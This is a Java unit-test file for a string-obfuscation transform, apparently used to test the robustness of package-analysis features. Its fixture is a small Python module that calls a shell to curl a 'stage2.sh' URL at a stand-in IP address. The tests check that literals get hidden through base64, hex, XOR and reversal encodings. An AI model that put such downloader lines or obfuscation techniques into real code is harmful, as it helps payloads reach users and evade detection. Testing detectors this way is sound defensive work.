package dev.fang.robustness;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fang.featurize.features.PackageContents;
import org.junit.jupiter.api.Test;

class StringObfuscationTest {
    private static final String SOURCE = """
            #!/usr/bin/env python
            \"\"\"Module docstring stays.\"\"\"
            from __future__ import annotations
            import subprocess

            HOST = '203.0.113.7'
            URL = "http://203.0.113.7/stage2.sh"
            KEY = b'\\x01\\x02secret'
            JOINED = ('implicit' 'concatenation')


            def run(command: 'str') -> 'int':
                \"\"\"Function docstring stays.\"\"\"
                label = f'run {command}'
                match command:
                    case 'pattern literal':
                        return 0
                return subprocess.call(['/bin/sh', '-c', 'curl ' + URL])
            """;

    private String obfuscated(long seed) {
        PackageContents out = new StringObfuscation().apply(Fixtures.pkg("pkg/mod.py", SOURCE), 1.0, seed);
        return Fixtures.text(out, "pkg/mod.py");
    }

    @Test
    void shouldHideEveryReplaceableLiteral() {
        for (long seed = 1; seed <= 20; seed++) {
            String text = obfuscated(seed);
            // Splitting leaves pieces in clear by design; no literal stays whole.
            assertThat(text).as(text).doesNotContain("HOST = '203.0.113.7'", "\"http://203.0.113.7/stage2.sh\"",
                    "b'\\x01\\x02secret'", "'/bin/sh'", "'curl '", "'-c'");
        }
    }

    @Test
    void shouldLeaveDocstringsFStringsPatternsAnnotationsAndImplicitConcatenationAlone() {
        for (long seed = 1; seed <= 20; seed++) {
            String text = obfuscated(seed);
            assertThat(text).as(text).contains("\"\"\"Module docstring stays.\"\"\"", "\"\"\"Function docstring stays.\"\"\"",
                    "f'run {command}'", "case 'pattern literal':", "def run(command: 'str') -> 'int':",
                    "('implicit' 'concatenation')");
        }
    }

    @Test
    void shouldInsertNeededImportsAfterDocstringAndFutureImports() {
        boolean sawImport = false;
        for (long seed = 1; seed <= 20; seed++) {
            String text = obfuscated(seed);
            if (text.contains("import base64\n")) {
                sawImport = true;
                assertThat(text).as(text).startsWith("#!/usr/bin/env python\n\"\"\"Module docstring stays.\"\"\"\n"
                        + "from __future__ import annotations\nimport base64\n");
            }
        }
        assertThat(sawImport).as("some seed uses a base-N encoding").isTrue();
    }

    @Test
    void shouldUseEveryEncodingOverManySeeds() {
        StringBuilder all = new StringBuilder();
        for (long seed = 1; seed <= 60; seed++) {
            all.append(obfuscated(seed));
        }
        assertThat(all).contains("b64decode(", "b32decode(", "b16decode(", "b85decode(", "bytes.fromhex(", "bytes([",
                "bytearray([", "map(chr, [", "^ ", "[::-1]", ".join([", "%s%s", ".format(", "(f'{\"");
    }

    @Test
    void shouldNotUseABuiltinTheFileRebinds() {
        String source = "bytes = 1\nchr = 2\nmap = 3\nbytearray = 4\nvalue = 'hidden text'\n";
        for (long seed = 1; seed <= 30; seed++) {
            String text = Fixtures.text(new StringObfuscation().apply(Fixtures.pkg("m.py", source), 1.0, seed), "m.py");
            assertThat(text).doesNotContain("bytes(", "bytes.fromhex", "chr,", "bytearray(");
        }
    }
}
